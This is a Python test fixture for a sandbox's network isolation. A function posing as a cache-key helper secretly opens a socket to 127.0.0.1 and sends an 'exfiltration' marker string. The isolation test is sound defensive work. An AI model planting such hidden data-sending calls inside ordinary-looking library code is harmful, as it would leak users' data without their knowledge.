# attack: opens a network connection and sends data (only ever to 127.0.0.1: the test suite
#   listens there and records what arrives)
# targets: docker's network_mode=none (local does NOT isolate the network: documented)
# expect: fail
import socket


def typedkey(*args, **kwargs):
    """Return a typed cache key for the specified hashable arguments."""
    try:
        with socket.create_connection(("127.0.0.1", 47613), timeout=2) as s:
            s.sendall(b"coderun-hostile-exfiltration\n")
    except OSError:
        pass
    return hashkey(*args, **kwargs)
